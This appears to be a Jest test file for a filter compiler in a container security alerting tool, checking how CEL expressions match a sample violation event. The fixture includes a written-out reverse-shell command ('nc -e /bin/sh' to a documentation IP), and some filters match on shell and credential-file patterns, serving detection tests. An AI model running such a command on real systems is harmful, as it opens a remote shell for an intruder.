import { describe, expect, it } from '@jest/globals';
import { FilterError } from './filter-error.js';
import { compileFilter } from './filter.js';

const violation = {
  name: 'Terminal shell in container',
  severity_id: 4,
  tags: ['shell', 'container'],
  workload: { namespace: 'pay', name: 'web' },
  process: { name: 'nc', cmd_line: 'nc -e /bin/sh 203.0.113.9 4444' },
};

function passes(source: string): boolean {
  return compileFilter(source, 'violation').test(violation);
}

describe('compileFilter', () => {
  it.each([
    'violation.workload.namespace == "pay" && violation.process.name == "nc"',
    'violation.process.name in ["nc", "ncat"]',
    'violation.name.startsWith("Terminal")',
    'violation.severity_id >= 4',
    'violation.severity_id == 4.0',
    'violation.tags.exists(t, t == "shell")',
    'has(violation.process) && !has(violation.file)',
    'violation.process.cmd_line.matches("-e\\\\s+/bin/(ba)?sh")',
    '!violation.process.cmd_line.matches("^x") && violation.name.matches("shell") || false',
    'violation.tags.exists(t, t.matches("^sh"))',
  ])('passes %s', (source) => {
    expect(passes(source)).toBe(true);
  });

  it('does not pass when a field is absent, and does not count that as an error', () => {
    const filter = compileFilter('violation.file.path == "/etc/shadow"', 'violation');
    expect(filter.test(violation)).toBe(false);
    expect(filter.errors).toBe(0);
  });

  it('counts an evaluation that fails for another reason', () => {
    const filter = compileFilter('violation.severity_id.startsWith("x")', 'violation');
    expect(filter.test(violation)).toBe(false);
    expect(filter.errors).toBe(1);
  });

  it('matches in linear time where backtracking would take for ever', () => {
    const filter = compileFilter('violation.name.matches("^(a+)+$")', 'violation');
    expect(filter.test({ name: `${'a'.repeat(50_000)}!` })).toBe(false);
  });

  it.each([
    ['violation.name = "x"', /not a valid CEL expression/],
    ['violations.name == "x"', /Unknown variable/],
    ['violation.name.matches("(")', /not a regular expression/],
    ['"text"', /gives string, expected a condition/],
  ])('refuses %s', (source, message) => {
    expect(() => compileFilter(source, 'violation')).toThrow(FilterError);
    expect(() => compileFilter(source, 'violation')).toThrow(message);
  });
});
